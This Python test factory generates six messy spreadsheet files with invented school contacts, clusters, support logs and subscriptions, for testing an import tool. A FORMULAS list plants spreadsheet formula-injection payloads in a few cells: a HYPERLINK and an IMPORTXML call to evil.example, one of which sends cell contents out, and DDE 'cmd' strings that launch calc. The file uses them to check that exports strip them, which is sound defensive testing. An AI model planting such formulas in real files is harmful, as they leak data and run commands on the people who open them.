"""Six spreadsheets as a partnership really has them: two header rows, merged cells, closed URNs, misspellings, wrong numbers, duplicates,
ratings and notes of concern, formulas. Every person is invented; what each line truly means stands beside it.

    dirty_set(7, invented_register(7))            300 schools, 1,200 contacts, 45 clusters, 400 lines of a support log
    dirty_set(7, invented_register(7, 12), small=True)   for tests

The same seed and schools give the same bytes.
"""

from __future__ import annotations

import random
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import date, timedelta

from convenor.moving_in.rules.kinds import Kind
from convenor.moving_in.rules.schools import KnownSchool
from tests.factories.dirty_writing import cards_file, csv_file, ods_file, xlsx_file
from tests.factories.invented_register import PLACES_A, PLACES_B, invented_register

__all__ = ["CONCERNS", "FORMULAS", "FORMULA_MARKS", "RATINGS", "DirtySet", "TrueLine", "Truth", "dirty_set", "invented_register"]

CONTACTS, CLUSTERS, BOARD, LOG, CARDS, SUBSCRIPTIONS = (
    "Heads and chairs 2025-26.xlsx", "clusters.csv", "Board and reviewers.ods", "Support log.xlsx", "address book.vcf", "subscriptions.csv",
)  # fmt: skip
_FIRST = (
    "Ada", "Bryn", "Cleo", "Dov", "Elin", "Femi", "Greta", "Hari", "Imke", "Joss", "Kezia", "Lorcan", "Mina", "Nils", "Oona", "Piers",
    "Quill", "Rhoda", "Suri", "Tove",
    "Una", "Vik", "Wren", "Xanthe", "Yusuf", "Zelda", "Anouk", "Bente", "Caio", "Dagny", "Eilidh", "Frey", "Gwil", "Hesper", "Ivo", "Jorie",
)  # fmt: skip
_LAST_A = (
    "Ash",
    "Bram",
    "Cald",
    "Dun",
    "Elm",
    "Fen",
    "Gorse",
    "Holm",
    "Ing",
    "Kes",
    "Lark",
    "Moss",
    "Nether",
    "Oak",
    "Pem",
    "Quarn",
    "Rush",
    "Sedge",
    "Thorn",
    "Under",
)
_LAST_B = ("beck", "combe", "dale", "field", "garth", "hurst", "ley", "mere", "shaw", "stow", "thwaite", "wick", "worth", "ridge", "brook")
RATINGS = ("Red", "Amber", "Green", "RI", "Good", "Grade 3", "Inadequate", "High risk", "2")
CONCERNS = (
    "Head struggling with staffing, governors worried", "Concerns about leadership of maths",
    "Weak middle leaders; likely RI at next Ofsted",
    "Chair not up to it - capability conversation started", "Head off sick since Easter, results poor",
)  # fmt: skip
PLAIN_NOTES = ("Two sessions in the hall", "Follow-up in the spring term", "Shared planning materials", "Went well, thanks to all", "")
FOCUSES = (
    "Phonics",
    "Mathematics mastery",
    "Early reading",
    "Governance review",
    "Subject leadership",
    "Assessment without levels",
    "Writing in Year 6",
)
#: What a spreadsheet would run; none of it may ever leave again.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A1",
    '=IMPORTXML("http://evil.example","//a")',
)
#: What of them must not be found in any export.
FORMULA_MARKS = ("HYPERLINK", "=1+1", "cmd|", "IMPORTXML")


@dataclass(frozen=True)
class TrueLine:
    """What one line means: `urn` of the school as it is today (empty for none), what was done to it, and whether it must be asked."""

    file: str
    sheet: str
    number: int
    kind: Kind
    urn: str
    dirt: tuple[str, ...] = ()
    must_ask: bool = False
    person: str = ""
    name: str = ""
    email: str = ""


@dataclass
class Truth:
    """Everything that is so about a dirty set. `columns`: (file, sheet) -> kind, header rows, field -> column."""

    lines: list[TrueLine] = field(default_factory=list)
    columns: dict[tuple[str, str], tuple[Kind, tuple[int, int], dict[str, int]]] = field(default_factory=dict)
    clusters: dict[str, str] = field(default_factory=dict)
    legacy: list[tuple[str, int, str]] = field(default_factory=list)
    contacts: int = 0

    def of(self, file: str, sheet: str = "") -> dict[int, TrueLine]:
        """The lines of a sheet by their number."""
        return {line.number: line for line in self.lines if line.file == file and (not sheet or line.sheet == sheet)}


@dataclass(frozen=True)
class DirtySet:
    """Files by name, and what is true of them."""

    files: dict[str, bytes]
    truth: Truth


def _in_order(keys: str) -> dict[str, int]:
    """Fields by the column in which they stand, from the left."""
    return {key: at for at, key in enumerate(keys.split())}


class _Writer:
    """Draws the dirt: each method writes one thing as somebody in a hurry would."""

    def __init__(self, seed: int, schools: Sequence[KnownSchool]) -> None:
        self.chance = random.Random(f"dirty {seed} {len(schools)}")
        self.open = [school for school in schools if school.closed_on is None]
        self.before = {school.became[0]: school for school in schools if len(school.became) == 1}
        self.people = 0

    def person(self) -> tuple[str, str]:
        """A new invented person: name and address, no two alike."""
        at, self.people = self.people, self.people + 1
        first = _FIRST[at % len(_FIRST)]
        last = _LAST_A[at // len(_FIRST) % len(_LAST_A)] + _LAST_B[(at // (len(_FIRST) * len(_LAST_A)) + at) % len(_LAST_B)]
        return f"{first} {last}", f"{first[0].lower()}.{last.lower()}{at}@schools.example"

    def name(self, school: KnownSchool) -> str:
        """The school's name as people write it, without a slip of the pen."""
        text = school.name
        ways = (
            ("Church of England", "CofE"), ("Church of England", "C of E"), ("CofE", "C.E."), ("Primary School",
                "Primary"), ("Primary School", "Prim Sch"),
            ("St ", "St. "), ("'s", "s"), ("'s", "’s"), ("Community ", "Comm "), ("Catholic", "RC"), ("Infant School",
                "Infants"), ("Junior School", "Jnr School"), (" Academy", " Acad"),
            ("Saints", "Saints'"), ("Primary Academy", "Primary School"),
        )  # fmt: skip
        for old, new in self.chance.sample(ways, 5):
            text = text.replace(old, new)
        return text.upper() if self.chance.random() < 0.04 else f" {text} " if self.chance.random() < 0.05 else text

    def misspelt(self, text: str) -> str:
        """Two letters of the longest word changed places, one doubled, or one lost."""
        word = max(text.replace(",", " ").split(), key=lambda each: (len(each), each))
        at = min(len(word) - 1, self.chance.randrange(2, max(3, len(word) - 2)))
        slip = self.chance.choice(
            (
                word[:at] + word[at + 1 : at + 2] + word[at : at + 1] + word[at + 2 :],
                word[:at] + word[at] + word[at:],
                word[:at] + word[at + 1 :],
            )
        )
        return text.replace(word, slip, 1)

    def other(self, school: KnownSchool) -> KnownSchool:
        """Another school."""
        return self.chance.choice([each for each in self.open if each.urn != school.urn])

    def school(self, school: KnownSchool) -> tuple[dict[str, str], tuple[str, ...], bool]:
        """What a line says of its school, what was done to it, and whether only a person can tell."""
        said = {
            "urn": school.urn,
            "laestab": f"{school.laestab[:3]}/{school.laestab[3:]}",
            "school": self.name(school),
            "postcode": school.postcode,
            "town": school.town,
        }
        draw, before = self.chance.random(), self.before.get(school.urn)
        if before is not None and draw < 0.6:
            return {**said, "urn": before.urn, "school": self.name(before)}, ("closed-urn",), False
        if draw < 0.54:
            return said, (), False
        if draw < 0.66:
            return {**said, "urn": "", "school": self.misspelt(school.name)}, ("no-urn", "misspelt"), False
        if draw < 0.71:
            return {**said, "laestab": self.other(school).laestab}, ("wrong-laestab",), False
        if draw < 0.79:
            return {**said, "urn": "", "laestab": ""}, ("no-number",), False
        if draw < 0.86:
            return {**said, "urn": "", "laestab": "", "school": self.misspelt(school.name)}, ("no-number", "misspelt"), False
        if draw < 0.92:
            return (
                {**said, "urn": self.chance.choice((f"URN {school.urn}", f"{school.urn}.0", f" {school.urn}")), "laestab": school.laestab},
                ("odd-form",),
                False,
            )
        if draw < 0.985:
            return {**said, "urn": "", "postcode": school.postcode.replace(" ", "").lower()}, ("no-urn",), False
        return {**said, "urn": self.other(school).urn, "laestab": "", "postcode": ""}, ("urn-of-another",), True

    def day(self, on: date) -> str:
        """A day in one of the ways people write it."""
        return self.chance.choice(
            (f"{on:%d/%m/%Y}", f"{on:%d/%m/%y}", f"{on.day} {on:%b} {on.year}", f"{on:%d.%m.%Y}", f"{on.day} {on:%B} {on.year}")
        )


def dirty_set(
    seed: int, schools: Sequence[KnownSchool], *, contacts: int = 1200, log: int = 400, clusters: int = 45, small: bool = False
) -> DirtySet:
    """The six files and their truth. `small` makes a set for tests: as many contacts as the schools give, 3 clusters, 24 lines."""
    if small:
        contacts, log, clusters = min(contacts, len(schools) * 4), 24, 3
    writer, truth = _Writer(seed, schools), Truth()
    wide = min(len(writer.open) * 4, int(contacts * 0.92))
    files = {
        CONTACTS: _contacts(writer, truth, wide),
        CLUSTERS: _clusters(writer, truth, clusters),
        BOARD: _board(writer, truth, small),
        LOG: _log(writer, truth, log, small),
        CARDS: _cards(writer, truth, contacts - wide),
        SUBSCRIPTIONS: _subscriptions(writer, truth),
    }
    return DirtySet(files, truth)


def _contacts(writer: _Writer, truth: Truth, count: int) -> bytes:
    """One line a school: a title merged across, roles in a first header row (merged), name and address in a second."""
    roles = (("Headteacher", "head"), ("Chair of Governors", "chair"), ("Clerk", "clerk"), ("SENCO", "senco"))
    rows: list[list[str]] = [
        ["Fernshire schools: heads and chairs 2025-26"], ["Updated by the office, please tell us of changes"], [],
        ["School", "DfE No.", "Post Code", *(text for role, _ in roles for text in (role, ""))], ["", "", "", *("Name", "E-mail") * 4],
    ]  # fmt: skip
    columns = {
        "school": 0,
        "laestab": 1,
        "postcode": 2,
        **{f"{key}.{part}": 3 + 2 * at + off for at, (_, key) in enumerate(roles) for off, part in enumerate(("name", "email"))},
    }
    merged = [(0, 0, 0, 10), (3, 0, 4, 0), (3, 1, 4, 1), (3, 2, 4, 2), *((3, 3 + 2 * at, 3, 4 + 2 * at) for at in range(4))]
    left = count
    for at, school in enumerate(writer.open):
        said, dirt, _ = writer.school(school)
        ask, number = False, writer.chance.choice((said["laestab"], said["laestab"].replace("/", ""), ""))
        if "wrong-laestab" in dirt:
            number = said["laestab"]
        row = [said["school"], number, said["postcode"] or school.postcode]
        for role in range(4):
            name, email = writer.person()
            if role == 0 and writer.chance.random() < 0.3:
                email = f"head@{school.urn}.example"
            row += [name, email] if left > 0 else ["", ""]
            left -= 1
        rows.append(row)
        if not any(row[3:]):
            continue
        truth.lines.append(TrueLine(CONTACTS, "Contacts", len(rows), Kind.CONTACTS, school.urn, dirt, ask))
        if writer.chance.random() < 0.03:
            rows.append(list(row))
            truth.lines.append(TrueLine(CONTACTS, "Contacts", len(rows), Kind.CONTACTS, school.urn, (*dirt, "duplicate"), ask))
        if at == 6:
            rows.append([FORMULAS[0], "", FORMULAS[1]])
    rows.append(["Total schools", str(len(writer.open))])
    truth.contacts += min(count, len(writer.open) * 4)
    truth.columns[CONTACTS, "Contacts"] = (Kind.CONTACTS, (4, 5), columns)
    return xlsx_file(
        [("Contacts", rows, merged, 4), ("Old list (do not use)", [["School"], ["moved to the other sheet"]], [], 0)], hidden=1
    )


def _clusters(writer: _Writer, truth: Truth, count: int) -> bytes:
    """A plain list in Windows text, with dashes and accents that Unicode readers stumble over."""
    names = [f"{PLACES_A[at % 20]}{PLACES_B[at % 18]} {('Cluster', 'Family – Café', 'Learning Community')[at % 3]}" for at in range(count)]
    rows = [["School Name", "URN", "Town", "Cluster", "Alliance", "Cluster Lead"]]
    for at, school in enumerate(writer.open):
        said, dirt, ask = writer.school(school)
        cluster = names[at * count // len(writer.open)]
        lead = "Yes" if at == 0 or names[(at - 1) * count // len(writer.open)] != cluster else ""
        rows.append(
            [said["school"], said["urn"], said["town"], cluster, f"{('North', 'South', 'East')[at * 3 // len(writer.open)]} Alliance", lead]
        )
        truth.lines.append(TrueLine(CLUSTERS, "clusters", len(rows), Kind.CLUSTERS, school.urn, dirt, ask))
        truth.clusters[school.urn] = cluster
    truth.columns[CLUSTERS, "clusters"] = (
        Kind.CLUSTERS,
        (1, 1),
        _in_order("school urn town cluster alliance lead"),
    )
    return csv_file(rows, encoding="cp1252")


def _board(writer: _Writer, truth: Truth, small: bool) -> bytes:
    """Seats with terms, and reviewers with their training; one person with two addresses, one address of two people."""
    seats = [["Board", "Seat", "Member", "E-mail", "School", "Term start", "Term ends"]]
    held: list[tuple[str, str]] = []
    for at in range(6 if small else 18):
        school, (name, email) = writer.chance.choice(writer.open), writer.person()
        held.append((name, email))
        start = date(2023, 9, 1) + timedelta(days=365 * (at % 3))
        said = "Sept 2024" if at == 2 else writer.day(start)
        seats.append(
            [
                "Strategic Board",
                f"{('Primary', 'Secondary', 'Special')[at % 3]} headteacher",
                name,
                email,
                writer.name(school),
                said,
                writer.day(start + timedelta(days=1094)),
            ]
        )
        truth.lines.append(TrueLine(BOARD, "Board members", len(seats), Kind.SEATS, "", (), False, email, name, email))
    reviewers = [["Name", "School", "URN", "Email", "Date trained", "Refresher", "Lead reviewer?", "Specialism", "Days"]]
    for at in range(6 if small else 40):
        school = writer.chance.choice(writer.open)
        name, email = held[at] if at < 3 else writer.person()
        person, dirt = email, ()
        if at == 1:
            email, dirt = f"{name.split()[0].lower()}@home.example", ("two-addresses",)
        if at == 4:
            email, dirt = held[3][1], ("two-people",)
        said, school_dirt, ask = writer.school(school)
        trained = date(2023, 10, 3) + timedelta(days=37 * at % 700)
        reviewers.append(
            [
                f"Mrs {name}" if at % 5 == 0 else name,
                said["school"],
                said["urn"],
                email,
                writer.day(trained),
                "",
                "Y" if at % 4 == 0 else "N",
                FOCUSES[at % 7],
                ("3", "2.5", "half a day")[at % 3],
            ]
        )
        truth.lines.append(
            TrueLine(BOARD, "Peer reviewers", len(reviewers), Kind.REVIEWERS, school.urn, (*school_dirt, *dirt), ask, person, name, email)
        )
    truth.columns[BOARD, "Board members"] = (
        Kind.SEATS,
        (1, 1),
        _in_order("body seat name email school from until"),
    )
    truth.columns[BOARD, "Peer reviewers"] = (
        Kind.REVIEWERS, (1, 1), _in_order("name school urn email trained refreshed lead expertise days"),
    )  # fmt: skip
    return ods_file([("Board members", seats), ("Peer reviewers", reviewers)])


def _log(writer: _Writer, truth: Truth, count: int, small: bool) -> bytes:
    """Support given, with ratings and notes of concern; the directory on a second sheet."""
    rows = [
        ["Support log (confidential)"],
        ["Date", "School", "URN", "Provided by", "Focus of support", "Days", "Cost (£)", "RAG", "Notes", "Status"],
    ]
    for at in range(count):
        school, (who, _) = writer.chance.choice(writer.open), writer.person()
        said, dirt, ask = writer.school(school)
        rating = writer.chance.choice(RATINGS) if at % 2 == 0 else ""
        note = writer.chance.choice(CONCERNS) if at % 3 == 0 else writer.chance.choice(PLAIN_NOTES)
        if at == 5:
            note = FORMULAS[2]
        on = date(2023, 9, 4) + timedelta(days=at * 800 // max(1, count))
        rows.append(
            [
                writer.day(on),
                said["school"],
                said["urn"],
                who,
                writer.chance.choice(FOCUSES),
                writer.chance.choice(("1", "0.5", "2½", "half", "3")),
                writer.chance.choice(("£450.00", "450", "£1,200", "")),
                rating,
                note,
                ("Closed", "Open")[at % 2],
            ]
        )
        truth.lines.append(TrueLine(LOG, "Log", len(rows), Kind.SUPPORT_LOG, school.urn, dirt, ask))
        truth.legacy += [(LOG, len(rows), text) for text in (rating, note if note in CONCERNS else "") if text]
        if at == 10:
            rows.append(rows[-1][:])
            truth.lines.append(TrueLine(LOG, "Log", len(rows), Kind.SUPPORT_LOG, school.urn, (*dirt, "duplicate"), ask))
            truth.legacy += [(LOG, len(rows), text) for text in (rating, note if note in CONCERNS else "") if text]
    rows.append(["Total", "", "", "", "", FORMULAS[1]])
    directory = [["Provider", "Type", "School", "Expertise", "Phase", "Days", "QA by", "Date QA'd", "Designation", "Email"]]
    for at in range(5 if small else 30):
        school, (name, email) = writer.chance.choice(writer.open), writer.person()
        directory.append(
            [
                name,
                "Person",
                writer.name(school),
                FOCUSES[at % 7],
                school.phase,
                str(3 + at % 5),
                "Local authority",
                writer.day(date(2025, 1, 6) + timedelta(days=at)),
                ("NLE", "SLE", "")[at % 3],
                email,
            ]
        )
        truth.lines.append(TrueLine(LOG, "Directory", len(directory), Kind.DIRECTORY, "", (), False, email, name, email))
    truth.columns[LOG, "Log"] = (
        Kind.SUPPORT_LOG, (2, 2), _in_order("date school urn who what days cost rating note status"),
    )  # fmt: skip
    truth.columns[LOG, "Directory"] = (
        Kind.DIRECTORY, (1, 1), _in_order("name kind school expertise phases days assured_by assured_on designation email"),
    )  # fmt: skip
    return xlsx_file([("Log", rows, [(0, 0, 0, 9)], 0), ("Directory", directory, [], 0)])


def _cards(writer: _Writer, truth: Truth, count: int) -> bytes:
    """Address cards of business managers and office staff."""
    cards = []
    for at in range(max(0, count)):
        school, (name, email) = writer.open[at % len(writer.open)], writer.person()
        misspelt = writer.chance.random() < 0.1
        said = writer.misspelt(school.name) if misspelt else writer.name(school)
        cards.append((name, said.strip(), "School Business Manager", email, school.postcode))
        truth.lines.append(
            TrueLine(CARDS, "address book", at + 2, Kind.CONTACTS, school.urn, ("misspelt",) if misspelt else (), False, email, name, email)
        )
    truth.contacts += max(0, count)
    truth.columns[CARDS, "address book"] = (
        Kind.CONTACTS, (1, 1), _in_order("school role name email phone postcode town verified"),
    )  # fmt: skip
    return cards_file(cards)


def _subscriptions(writer: _Writer, truth: Truth) -> bytes:
    """Who paid what, with semicolons between the cells as a continental spreadsheet writes them."""
    rows = [["School", "DfE number", "Year", "Subscription (£)", "Paid?", "Invoice date", "Notes"]]
    for at, school in enumerate(writer.open):
        said, dirt, ask = writer.school(school)
        if "urn-of-another" in dirt:
            said, dirt, ask = {**said, "laestab": writer.other(school).laestab}, ("laestab-of-another",), True
        ask = ask or "wrong-laestab" in dirt  # nothing but the name speaks against it
        amount, paid = writer.chance.choice(("£450.00", "450", "£1,250.00", "450.00")), writer.chance.choice(("Y", "Yes", "N", "x", ""))
        rows.append(
            [
                said["school"],
                said["laestab"],
                writer.chance.choice(("2025-26", "2025/26", "25/26")),
                amount,
                paid,
                writer.day(date(2025, 9, 15)),
                FORMULAS[1] if at == 3 else "",
            ]
        )
        truth.lines.append(TrueLine(SUBSCRIPTIONS, "subscriptions", len(rows), Kind.SUBSCRIPTIONS, school.urn, dirt, ask))
    rows.append(["Grand total", "", "", FORMULAS[1]])
    truth.columns[SUBSCRIPTIONS, "subscriptions"] = (
        Kind.SUBSCRIPTIONS, (1, 1), _in_order("school laestab year amount paid invoiced note"),
    )  # fmt: skip
    return csv_file(rows, between=";")
